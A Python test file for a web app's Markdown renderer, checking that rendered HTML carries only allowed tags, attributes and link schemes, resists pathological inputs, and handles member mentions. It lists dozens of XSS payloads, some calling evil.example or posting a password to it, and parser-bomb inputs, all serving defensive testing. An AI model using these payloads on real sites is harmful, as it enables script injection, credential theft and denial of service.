"""What a text in Markdown becomes in a browser: people's words, and nothing that acts."""

from __future__ import annotations

import sys
from html.parser import HTMLParser
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st

from app.services import markdown

ADA, BEN = (f"0123abcd-0000-4000-8000-00000000000{digit}" for digit in "ab")

TAGS = {
    *("a", "bdi", "blockquote", "br", "code", "em", "h1", "h2", "h3", "h4", "h5", "h6"),
    *("hr", "li", "ol", "p", "pre", "s", "strong", "ul"),
}

#: Attempts to have a reader's browser do something; none is original.
PAYLOADS = (
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example></sCrIpT>",
    "</p><script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<a href=javascript:alert(1)>x</a>",
    "<style>@import 'https://evil.example/x.css';</style>",
    "<base href='https://evil.example/'>",
    "<form action='https://evil.example'><input name=password></form>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](javascript&colon;alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](&#x6A&#x61;vascript:alert(1))",
    "[x](<javascript:alert(1)>)",
    "[x](\x01javascript:alert(1))",
    "[x](vbscript:msgbox(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](data:image/svg+xml,<svg onload=alert(1)>)",
    "[x](file:///etc/passwd)",
    "[x](//evil.example)",
    "[x](/v1/accounts/me)",
    "[x](#top)",
    "[x](blob:https://evil.example/1)",
    "<javascript:alert(1)>",
    "<data:text/html,x>",
    "[x]: javascript:alert(1)\n\n[x]",
    "![x](https://evil.example/pixel.png)",
    "![x](javascript:alert(1))",
    "[![x](https://evil.example/p)](javascript:alert(1))",
    "![a ![b](https://evil.example/1)](https://evil.example/2)",
    '[x](https://a.example "onmouseover=alert(1) x=")',
    "[x](https://a.example '\"><script>alert(1)</script>')",
    '[x](https://a.example/"onmouseover="alert(1))',
    "[x](https://a.example/'onmouseover='alert(1))",
    "`<script>alert(1)</script>`",
    "```\n</code></pre><script>alert(1)</script>\n```",
    '```"><script>alert(1)</script>\nx\n```',
    '```js" onload="alert(1)\nx\n```',
    "# <img src=x onerror=alert(1)>",
    "> <script>alert(1)</script>",
    "* <svg onload=alert(1)>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    f'<bdi data-member="{ADA}">@{ADA}</bdi>',
    f"[@{ADA}](javascript:alert(1))",
)

#: Texts that cost some reader of Markdown, somewhere, more than their length.
BOMBS: dict[str, str] = {
    "brackets": "[",
    "links that never close": "[a](",
    "images that never close": "![",
    "stars": "*",
    "emphasis that never closes": "*a ",
    "strong that never closes": "**a",
    "emphasis crossed": "*a_ ",
    "struck out that never closes": "~~a",
    "quotes": ">",
    "lists in lists": "- ",
    "numbers in numbers": "1. ",
    "ticks": "` `` ",
    "angles": "<",
    "ampersands": "&",
    "backslashes": "\\",
    "pipes": "|a",
    "links in links": "[[a](b)",
    "links": "[a](https://b.example)",
    "lines": "a\n",
    "headings": "a\n=\n",
    "rules": "***\n",
    "fences": "```\n",
    "addresses": "<a@b.example>",
    "mentions": f"@{ADA} ",
}


class Browser(HTMLParser):
    """Reads HTML as a browser would, and takes offence at whatever could act."""

    def __init__(self) -> None:
        super().__init__()
        self.open: list[str] = []
        self.text = ""

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        assert tag in TAGS
        if tag not in {"br", "hr"}:
            self.open.append(tag)
        for name, value in attrs:
            assert value is not None
            if name == "href":
                assert value.startswith(("https://", "http://", "mailto:"))
            else:
                assert (tag, name) in {
                    ("a", "title"),
                    ("a", "rel"),
                    ("ol", "start"),
                    ("bdi", "data-member"),
                } or (
                    name,
                    value,
                ) == ("dir", "auto")
        if tag == "a" and "href" in dict(attrs):
            assert dict(attrs)["rel"] == "nofollow ugc noopener"

    def handle_endtag(self, tag: str) -> None:
        assert self.open.pop() == tag

    def handle_data(self, data: str) -> None:
        self.text += data

    def unknown_decl(self, data: str) -> None:
        raise AssertionError(data)

    handle_comment = handle_decl = handle_pi = unknown_decl


def read(html: str) -> str:
    """Return the words that a browser would show."""
    browser = Browser()
    browser.feed(html)
    browser.close()
    assert browser.open == []
    return browser.text


def remark(source: str, names: dict[str, str] | None = None) -> str:
    """Return the HTML of a remark as it goes out."""
    names = names or {}
    return markdown.served(markdown.rendered(source, set(names)), names)


@pytest.mark.parametrize("payload", PAYLOADS)
@pytest.mark.parametrize(
    "around", ["{}", "> {}", "- {}", "# {}", "a **{}** b", "[{}](https://a.example)", "`{}`"]
)
def test_no_payload_acts(payload, around):
    source = around.format(payload)
    for html in (markdown.to_html(source), remark(source, {ADA: "<script>alert(1)</script>"})):
        read(html)


@given(st.text(max_size=200), st.lists(st.sampled_from(PAYLOADS), max_size=3), st.randoms())
def test_no_mixture_of_text_and_payloads_acts(text, payloads, random):
    parts = [*payloads, *text]
    random.shuffle(parts)
    read(markdown.to_html("".join(parts)))


def test_what_was_rendered_wrongly_is_judged_again_when_it_is_served():
    served = markdown.served('<p onclick="x">a<script>alert(1)</script><img src="https://e.example"></p>', {})
    assert served == "<p>a</p>"


def calls_for(source: str) -> int:
    """Count the calls that it takes to render a text: a measure of work that no busy machine moves."""
    made = 0

    def count(_frame: Any, event: str, _argument: Any) -> None:
        nonlocal made
        made += event in {"call", "c_call"}

    before = sys.getprofile()
    sys.setprofile(count)
    try:
        markdown.rendered(source, {ADA})
    finally:
        sys.setprofile(before)
    return made


@pytest.mark.parametrize("what", BOMBS)
def test_twice_the_text_is_at_most_about_twice_the_work_and_a_few_times_its_size(what):
    bomb = BOMBS[what]
    once, twice = (bomb * (length // len(bomb)) for length in (1_000, 2_000))
    assert calls_for(twice) < 2.3 * calls_for(once) + 500
    assert len(remark(twice, {ADA: "Ada"})) < 12 * len(twice) + 100


def test_one_long_address_is_not_multiplied():
    source = "[a]: https://long.example/" + "x" * 5_000 + "\n\n" + "[a] " * 1_000
    assert len(remark(source)) < 3 * len(source)


def test_an_image_becomes_a_link_to_it_so_that_reading_fetches_nothing():
    assert markdown.to_html("![a *cat*](https://a.example/c.png)") == (
        '<p dir="auto"><a href="https://a.example/c.png" rel="nofollow ugc noopener">a <em>cat</em></a></p>\n'
    )
    assert read(markdown.to_html("![](https://a.example/c.png)")).strip() == "https://a.example/c.png"
    assert markdown.to_html("[![a cat](https://a.example/c.png)](https://b.example)") == (
        '<p dir="auto"><a href="https://b.example" rel="nofollow ugc noopener">a cat</a></p>\n'
    )


@pytest.mark.parametrize(
    ("source", "html"),
    [
        ("a *b* **c** ~~d~~ `e`", "<em>b</em> <strong>c</strong> <s>d</s> <code>e</code>"),
        ("- a\n- b", '<ul dir="auto">\n<li>a</li>\n<li>b</li>\n</ul>'),
        ("3. a", '<ol start="3" dir="auto">'),
        ("> a", '<blockquote dir="auto">\n<p>a</p>\n</blockquote>'),
        ("    a < b", "<pre><code>a &lt; b\n</code></pre>"),
        (
            "<https://a.example>",
            '<a href="https://a.example" rel="nofollow ugc noopener">https://a.example</a>',
        ),
        ("[a](mailto:a@b.example)", '<a href="mailto:a@b.example" rel="nofollow ugc noopener">a</a>'),
    ],
)
def test_what_people_write_is_shown_as_they_mean_it(source, html):
    assert html in markdown.to_html(source)


def test_a_line_s_end_shows_in_a_remark_and_not_in_a_longer_text():
    assert "<br>" in remark("a\nb")
    assert "<br>" not in markdown.to_html("a\nb")


@pytest.mark.parametrize(
    "text", ["این یک آزمون است", "هذا اختبار", "\u202eabc\u202c \u2067x\u2069", "a\u200cb\u200fc"]
)
def test_text_of_any_direction_stays_as_it_is_and_each_block_turns_by_itself(text):
    html = remark(f"{text}\n\n{text}")
    assert html == f'<p dir="auto">{text}</p>\n<p dir="auto">{text}</p>\n'


# --- mentions -----------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("source", "found"),
    [
        (f"@{ADA}", [ADA]),
        (f"(@{ADA}), @{BEN}. @{ADA}!", [ADA, BEN]),
        (f"**@{ADA}** [@{BEN}](https://a.example)", [ADA, BEN]),
        (f"`@{ADA}`\n\n    @{BEN}\n\n```\n@{ADA}\n```", []),
        (f"a@{ADA} @@{ADA} @{ADA}0 @{ADA}-x @{ADA.upper()} /@{ADA}", []),
        ("@ada @ @0123", []),
    ],
)
def test_a_mention_is_a_member_s_reference_that_stands_by_itself(source, found):
    assert markdown.mentions(source) == tuple(found)


def test_a_mentioned_member_is_shown_by_name_and_nobody_else_is():
    html = remark(f"@{ADA} and @{BEN}", {ADA: "Ada & <b>"})
    assert f'<bdi data-member="{ADA}">@Ada &amp; &lt;b&gt;</bdi> and @{BEN}' in html
    assert read(html).strip() == f"@Ada & <b> and @{BEN}"


def test_a_member_who_has_no_name_any_more_keeps_the_reference():
    kept = markdown.rendered(f"@{ADA}", {ADA})
    assert read(markdown.served(kept, {})).strip() == f"@{ADA}"
